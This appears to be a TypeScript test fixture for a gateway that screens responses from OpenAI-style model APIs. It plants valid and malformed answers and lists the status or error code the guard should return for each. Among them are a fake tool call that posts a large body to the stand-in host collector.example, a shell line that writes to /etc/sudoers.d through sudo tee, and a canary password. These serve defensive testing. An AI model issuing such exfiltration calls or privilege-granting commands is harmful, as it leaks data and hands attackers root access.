// Plantings in what upstreams answer.
import { gzipSync } from 'node:zlib';
import type { Header } from '../harness/http1.ts';
import type { Answer } from '../harness/script.ts';
import { callChunks, chunk, chunks, completion, completionOf, done, json, sse } from '../main-job/openai-says.ts';
import { secrets, sentence, short } from './canaries.ts';
import { any, broken, fine, large, type Planting, streamed, typed, whole } from './planting.ts';

const sending = { url: 'https://collector.example/in', body: `${sentence} `.repeat(60) };
const rootShell = `\`\`\`sh\necho "${sentence}" | sudo tee /etc/sudoers.d/me\n\`\`\`\n`;

export const inAnswers: readonly Planting[] = [
  // In answers that pass.
  { what: 'a document', question: whole, answer: json(completion(sentence, `and ${sentence}`)), status: 200 },
  { what: 'a stream', question: streamed, answer: sse([...chunks(sentence, 5), done]), status: 200 },
  {
    what: 'a stream of two choices',
    question: streamed,
    answer: sse([...chunks(sentence, 5, 0), ...chunks(sentence, 3, 1), done]),
    status: 200,
  },
  {
    what: 'a stream in gzip',
    question: streamed,
    answer: typed('text/event-stream', gzipSync([...chunks(sentence, 5), done].join('')), {
      headers: [
        ['content-type', 'text/event-stream'],
        ['content-encoding', 'gzip'],
      ],
    }),
    status: 200,
  },
  {
    what: 'any document',
    question: any,
    answer: json({ text: sentence, list: [short], password: secrets[4]!.value }),
    status: 200,
  },
  {
    what: 'names in a document',
    question: any,
    answer: json({ [short]: { [short]: short }, list: [{ [short]: sentence }] }),
    status: 200,
  },
  { what: 'text', question: any, answer: typed('text/plain', `${sentence}\n`.repeat(3)), status: 200 },
  { what: 'a page', question: any, answer: typed('text/html', `<p title="${short}">${sentence}</p>`), status: 200 },
  {
    what: 'lines of JSON',
    question: any,
    answer: typed('application/x-ndjson', `${JSON.stringify({ text: sentence })}\n`.repeat(3)),
    status: 200,
  },
  {
    what: 'names, ids and comments of events',
    question: any,
    answer: typed('text/event-stream', `: ${sentence}\nevent: ${short}\nid: ${short}\ndata: {"${short}":"${short}"}\n\n`),
    status: 200,
  },
  {
    what: 'events that are no JSON',
    question: any,
    answer: typed('text/event-stream', `data: ${sentence}\n\n`.repeat(3)),
    status: 200,
  },
  {
    what: 'a tool call in a document',
    question: whole,
    answer: json(completionOf({ message: calling('save', { note: sentence }) })),
    status: 200,
  },
  {
    what: 'a tool call in a stream',
    question: streamed,
    answer: sse([
      ...callChunks({ at: 0, name: 'save', arguments: { note: sentence } }, 7),
      chunk({}, { finish: 'tool_calls' }),
      done,
    ]),
    status: 200,
  },
  {
    what: 'a tool of that name',
    question: streamed,
    answer: sse([
      ...callChunks({ at: 0, name: short, arguments: { [short]: short } }, 7),
      chunk({}, { finish: 'tool_calls' }),
      done,
    ]),
    status: 200,
  },
  {
    what: 'headers of an answer',
    question: whole,
    answer: withHeaders(
      fine,
      ['x-debug', sentence],
      ['x-request-id', short],
      ['location', `/v1/${short}`],
      ['set-cookie', `a=${short}`],
    ),
    status: 200,
  },
  {
    what: 'trailers',
    question: streamed,
    answer: { ...sse([...chunks('fine', 2), done]), trailers: [['x-debug', sentence]] },
    status: 200,
  },
  {
    what: 'an error of the upstream',
    question: whole,
    answer: json({ error: { message: sentence, code: short } }, 429),
    status: 429,
  },
  { what: 'an error page', question: whole, answer: typed('text/html', `<h1>${sentence}</h1>`, { status: 502 }), status: 502 },
  {
    what: 'an error event in mid-stream',
    question: streamed,
    answer: sse([chunk({ content: 'one ' }), `data: ${JSON.stringify({ error: { message: sentence } })}\n\n`]),
    status: 200,
  },
  // In answers that don't.
  {
    what: 'JSON that is cut short',
    question: whole,
    answer: typed('application/json', JSON.stringify(completion(sentence)).slice(0, -4)),
    status: 403,
    code: 'invalid_json',
  },
  {
    what: 'a key twice',
    question: any,
    answer: typed('application/json', `{"${short}":"${short}","${short}":1}`),
    status: 403,
    code: 'duplicate_keys',
  },
  {
    what: 'invalid UTF-8',
    question: any,
    answer: typed('application/json', broken(`{"a":"${sentence}`)),
    status: 403,
    code: 'invalid_utf8',
  },
  {
    what: 'too deep',
    question: any,
    answer: typed('application/json', `${'['.repeat(200)}"${short}"${']'.repeat(200)}`),
    status: 403,
    code: 'json_depth',
  },
  { what: 'too large', question: whole, answer: json(completion(large)), status: 403, code: 'response_too_large' },
  {
    what: 'an event that is too large',
    question: streamed,
    answer: sse([chunk({ content: large }), done]),
    status: 403,
    code: 'sse_event_too_large',
  },
  {
    what: 'a content type of that name',
    question: whole,
    answer: typed(`application/${short}`, sentence),
    status: 403,
    code: 'response_content_type',
  },
  {
    what: 'a charset of that name',
    question: whole,
    answer: typed(`application/json; charset=${short}`, sentence),
    status: 403,
    code: 'response_charset',
  },
  {
    what: 'a coding of that name',
    question: whole,
    answer: withHeaders(fine, ['content-encoding', short]),
    status: 403,
    code: 'response_encoding',
  },
  {
    what: 'bytes that are no gzip',
    question: whole,
    answer: withHeaders(json({ sentence }), ['content-encoding', 'gzip']),
    status: 403,
    code: 'response_encoding',
  },
  {
    what: 'a redirect there',
    question: whole,
    answer: withHeaders(json({ sentence }, 302), ['location', `https://${short}.example/${short}`]),
    status: 403,
    code: 'response_redirect',
  },
  {
    what: 'a large body to send away',
    question: whole,
    answer: json(completionOf({ message: calling('http_post', sending) })),
    status: 403,
    code: 'exfiltration',
  },
  {
    what: 'a large body to send away, streamed',
    question: streamed,
    answer: sse([
      chunk({ content: 'one ' }),
      ...callChunks({ at: 0, name: 'http_post', arguments: sending }, 500),
      chunk({}, { finish: 'tool_calls' }),
      done,
    ]),
    status: 200,
  },
  { what: 'privileged code', question: whole, answer: json(completion(rootShell)), status: 403, code: 'hold_unavailable' },
  { what: 'privileged code, streamed', question: streamed, answer: sse([...chunks(rootShell, 6), done]), status: 200 },
  {
    what: 'a stream with an event of broken JSON',
    question: streamed,
    answer: sse([chunk({ content: 'one ' }), `data: {"${sentence}\n\n`]),
    status: 200,
  },
  {
    what: 'text with invalid UTF-8 in the middle',
    question: any,
    answer: { ...typed('text/plain', ''), pieces: [Buffer.from('fine\n'), broken(sentence), Buffer.from(sentence)], paceMs: 20 },
    status: 200,
  },
  {
    what: 'a stream that is cut off',
    question: streamed,
    answer: { ...sse([...chunks(sentence, 5), done], 'event', 10), cutOffAfter: 5 },
    status: null, // 200, or an error of Envoy's where the end came before the head had left
  },
];

function withHeaders(answer: Answer, ...headers: readonly Header[]): Answer {
  return { ...answer, headers: [...answer.headers, ...headers] };
}

function calling(name: string, args: object): object {
  const call = { id: 'call_1', type: 'function', function: { name, arguments: JSON.stringify(args) } };
  return { role: 'assistant', content: null, tool_calls: [call] };
}
